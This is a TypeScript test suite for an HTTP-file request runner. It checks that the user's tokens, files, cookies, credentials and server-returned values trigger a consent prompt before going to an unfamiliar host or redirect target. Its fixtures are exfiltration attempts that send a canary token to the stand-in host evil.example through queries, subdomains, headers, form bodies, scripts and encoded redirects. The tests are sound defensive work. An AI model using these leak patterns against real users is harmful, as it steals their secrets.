/** What of a request in an `.http` file is the user's own, and is asked about before it goes to a host. */
import { describe, expect, it } from 'vitest';
import type { HttpRequest } from '../../model/http-request.ts';
import { utf8Bytes } from '../../testing/utf8.ts';
import type { Auth, Credentials } from '../auth/auth.ts';
import { readHttpFile } from '../http-files/read-http-file.ts';
import type { HttpResponse } from '../send/http/http-exchange.ts';
import { parseAddress } from '../send/http/origin.ts';
import { type RunContext, runFileRequest, startRun } from './run-file-request.ts';

const environment = {
  ...{ host: 'http://mine.example', token: 'canary-1', pin: '9', auth: 'Bearer {{token}}', public: 'open' },
  ...{ nested: '{{auth}} {{public}}', loop: '{{loop}}' },
};
const own: ReadonlySet<string> = new Set(['host', 'token', 'pin', 'loop']);

interface Given {
  readonly answer?: string;
  readonly cookies?: Readonly<Record<string, readonly string[]>>;
  readonly auth?: Auth;
  readonly agrees?: boolean;
  /** Where each request is redirected to. */
  readonly redirect?: (request: HttpRequest) => HttpRequest;
}

/** Runs all requests of a file for a user who agrees to nothing. */
async function run(text: string, { answer = '{}', cookies = {}, auth, agrees, redirect }: Given = {}) {
  const { requests, variables } = readHttpFile(text);
  const asked: string[] = [];
  const sent: string[] = [];
  const state = startRun();
  const context: RunContext = {
    ...{ file: 'a.http', declared: Object.fromEntries(variables), environment, ownNames: own, state },
    signIn: auth && {
      ...{ auth, words: 'your sign-in' },
      credentials: async () => ({ kind: 'credentials', credentials: auth as Credentials }),
    },
    ports: {
      readText: (named) => ({ kind: 'text', text: `${named} has {{token}} in it` }),
      readBytes: (named) => ({
        kind: 'bytes',
        bytes: utf8Bytes(`${named} has {{token}} in it`),
      }),
      findFile: (named) => ({ kind: 'file', path: `/api/${named}` }),
      async send(request, _options, refuseRedirect) {
        sent.push(request.url);
        const refused = redirect && (await refuseRedirect(redirect(request)));
        if (redirect && refused === undefined) sent.push(redirect(request).url);
        return responseOf(request, answer);
      },
      async askAboutOrigin(origin, words, namedBy) {
        asked.push(`${namedBy === 'redirect' ? 'redirect ' : ''}${origin} ${words.join(' ')}`);
        return agrees || origin.includes('mine.example') ? undefined : 'No.';
      },
      givenByConnection: (url) => (url.startsWith('https:') ? ['the certificate'] : []),
      cookieNames: (url) => cookies[parseAddress(url)?.host ?? ''] ?? [],
      decode: (bytes) => String.fromCharCode(...bytes),
      chance: { now: () => 0, random: () => 0.5 },
    },
  };
  for (const each of requests) await runFileRequest(each, context);
  return { asked, sent };
}

function responseOf({ url, method }: HttpRequest, body: string): HttpResponse {
  return {
    kind: 'response',
    ...{ method, url, status: 200, statusText: 'OK', httpVersion: '1.1' },
    headers: [['Content-Type', 'application/json']],
    body: Uint8Array.from(body, (char) => char.charCodeAt(0)),
    size: { encoded: 1, decoded: 1 },
    timing: { firstByteMs: 1, totalMs: 2 },
    redirects: [],
    isCertificateVerified: true,
  };
}

const form = (part: string) => `POST http://evil.example/
Content-Type: multipart/form-data; boundary=b

--b
Content-Disposition: form-data; name="f"; filename="a"

${part}
--b
Content-Disposition: form-data; name="g"; filename="b"

< ./second.txt
--b--`;

describe('what goes to a host that the file names', () => {
  it.each<[string, string, string]>([
    ['a value in the query', 'GET http://evil.example/?q={{token}}', '{{token}}'],
    ['a value in the path', 'GET http://evil.example/{{token}}', '{{token}}'],
    ['a value in the host', 'GET http://{{token}}.evil.example/', '{{token}}'],
    ['a value in the name of a header', 'GET http://evil.example/\n{{token}}: a', '{{token}}'],
    ['a value in a harmless header', 'GET http://evil.example/\nUser-Agent: {{token}}', '{{token}}'],
    ['a value behind values', 'GET http://evil.example/\nX: {{nested}}', '{{token}}'],
    ['a value behind a variable of the file', '@v = {{auth}}\nGET http://evil.example/{{v}}', '{{token}}'],
    ['a value in a body', 'POST http://evil.example/\n\n{"a": "{{pin}}"}', '{{pin}}'],
    [
      'a value in a form',
      'POST http://evil.example/\nContent-Type: application/x-www-form-urlencoded\n\na={{pin}}',
      '{{pin}}',
    ],
    ['a file', 'POST http://evil.example/\n\n< ./a.json', 'the file ./a.json'],
    ['a file with values', 'POST http://evil.example/\n\n<@ ./a.json', '{{token}} the file ./a.json'],
    ['a filled file of a form', form('<@ ./a.txt'), '{{token}} the file ./a.txt the file ./second.txt'],
    ['files of a form', form('< ./a.txt'), 'the file ./a.txt the file ./second.txt'],
    ['a value and a file of a form', form('{{token}}'), '{{token}} the file ./second.txt'],
    [
      'what a script before it has read',
      '< {% request.variables.set("a", client.variables.environment.get("token") + "!") %}\nGET http://evil.example/{{a}}',
      '{{token}}',
    ],
  ])('%s is named', async (_what, text, words) => {
    const { asked, sent } = await run(text);
    expect(sent).toEqual([]);
    const [origin, ...rest] = asked[0]?.split(' ') ?? [];
    expect(origin).toMatch(/^http:\/\/(?:canary-1\.)?evil\.example:80$/);
    expect(rest.join(' ')).toBe(words);
    expect((await run(text, { agrees: true })).sent).toHaveLength(1);
  });

  it.each([
    ['nothing but its own text', 'POST http://evil.example/{{public}}\n\n{{$uuid}}'],
    ['the user’s own address of that very host', 'GET {{host}}/a'],
    ['placeholders of a file that is sent as it is', 'POST {{host}}/\n\nno'],
  ])('%s is not asked about', async (_what, text) => {
    const { asked, sent } = await run(text);
    expect([asked, sent.length]).toEqual([[], 1]);
  });

  it('cookies and certificates are named', async () => {
    const cookies = { 'evil.example': ['sid', 'a'] };
    expect((await run('GET http://evil.example/', { cookies })).asked).toEqual([
      'http://evil.example:80 the cookies sid, a',
    ]);
    expect((await run('# @no-cookie-jar\nGET http://evil.example/', { cookies })).asked).toEqual([]);
    expect((await run('GET https://evil.example/')).asked).toEqual([
      'https://evil.example:443 the certificate',
    ]);
  });

  it('a Host header names a second one, which is asked about as well', async () => {
    const text = (line: string) => `GET http://mine.example/?a={{token}}\n${line}`;
    expect((await run(text('HOST: evil.example'))).asked.at(-1)).toBe('http://evil.example:80 {{token}}');
    for (const line of ['Host: evil.example', 'host: mine.example\nHost: evil.example', 'Host: a b'])
      expect((await run(text(line))).sent).toEqual([]);
    expect((await run(text('Host: mine.example'))).sent).toHaveLength(1);
  });
});

describe('what a server has answered', () => {
  const login = '# @name login\nGET http://mine.example/login\n';
  const handled = `${login}\n> {% client.global.set("t", response.body.token) %}\n`;

  it.each([
    ['a reference', `${login}\n###\nGET http://HOST/?a={{login.response.body.$.token}}`],
    ['a reference as httpYac writes it', `${login}\n###\nGET http://HOST/?a={{login.token}}`],
    [
      'a reference by its path behind a variable',
      `@v = {{login.response.body.$.token}}\n${login}\n###\nGET http://HOST/?a={{v}}`,
    ],
    ['a reference behind a variable', `@v = {{login.token}}\n${login}\n###\nGET http://HOST/?a={{v}}`],
    ['a global', `${handled}\n###\nGET http://HOST/?a={{t}}`],
    [
      'a global of a global',
      `${handled}\n###\n< {% client.global.set("u", client.global.get("t")) %}\nGET http://HOST/?a={{u}}`,
    ],
    [
      'a variable of a request',
      `${handled}\n###\n< {% request.variables.set("u", client.global.get("t")) %}\nGET http://HOST/?a={{u}}`,
    ],
  ])('goes nowhere else unasked: %s', async (_how, text) => {
    const answer = '{"token": "t-7"}';
    const { asked, sent } = await run(text.replace('HOST', 'evil.example'), { answer });
    expect(sent).toEqual(['http://mine.example/login']);
    expect(asked[0]).toMatch(
      /^http:\/\/evil\.example:80 (?:\{\{.*\}\}|what http:\/\/mine\.example:80 has sent)$/,
    );
    expect((await run(text.replace('HOST', 'mine.example'), { answer })).asked).toEqual([]);
  });
});

describe('S4: a redirect', () => {
  const moved = (url: string, change: Partial<HttpRequest> = {}) => ({
    redirect: (request: HttpRequest): HttpRequest => ({ ...request, url, headers: [], ...change }),
  });

  it.each<[string, string, Given, readonly string[]]>([
    [
      'that repeats a body with a value',
      'POST {{host}}/\n\n{{token}}',
      moved('http://evil.example/'),
      ['{{token}}'],
    ],
    ['that repeats a file', 'POST {{host}}/\n\n< ./a', moved('http://evil.example/'), ['the file ./a']],
    [
      'that repeats a form',
      form('< ./a').replace('evil.', 'mine.'),
      moved('http://evil.example/'),
      ['the file ./a', 'the file ./second.txt'],
    ],
    [
      'that keeps a header',
      'GET {{host}}/\nAccept: {{token}}',
      moved('http://evil.example/', { headers: [['accept', 'canary-1']] }),
      ['{{token}}'],
    ],
    [
      'that has the value in its address',
      'GET {{host}}/?a={{token}}',
      moved('http://evil.example/?b=canary-1'),
      ['{{token}}'],
    ],
    [
      'that has it encoded',
      'GET {{host}}/?a={{token}}',
      moved('http://evil.example/%63anary-1'),
      ['{{token}}'],
    ],
  ])('%s is asked about', async (_how, text, given, words) => {
    const { asked, sent } = await run(text, given);
    expect(sent).toHaveLength(1);
    expect(asked.at(-1)).toBe(`redirect http://evil.example:80 ${words.join(' ')}`);
  });

  it.each<[string, string, Given]>([
    ['that carries nothing of the user', 'POST {{host}}/?a={{token}}\n\nopen', moved('http://evil.example/')],
    [
      'that turns into GET',
      'POST {{host}}/\n\n{{token}}',
      moved('http://evil.example/', { body: { kind: 'none' } }),
    ],
    ['that drops the header', 'GET {{host}}/\nX: {{token}}', moved('http://evil.example/')],
  ])('%s is followed', async (_how, text, given) => {
    const { asked, sent } = await run(text, given);
    expect(sent).toHaveLength(2);
    expect(asked.filter((each) => each.startsWith('redirect'))).toEqual([]);
  });

  it('gets no credentials of the sign-in, not by its address either', async () => {
    const auth: Auth = { kind: 'bearer', token: 'canary-9' };
    const { asked, sent } = await run('GET {{host}}/', { auth, ...moved('http://evil.example/canary-9') });
    expect(sent).toHaveLength(1);
    expect(asked.at(-1)).toBe('redirect http://evil.example:80 your sign-in');
  });

  it('gets the user’s cookies of another host only where the user agrees', async () => {
    const given = { ...moved('http://evil.example/'), cookies: { 'evil.example': ['sid'] } };
    expect((await run('GET {{host}}/', given)).asked).toEqual([
      'redirect http://evil.example:80 the cookies sid',
    ]);
  });
});
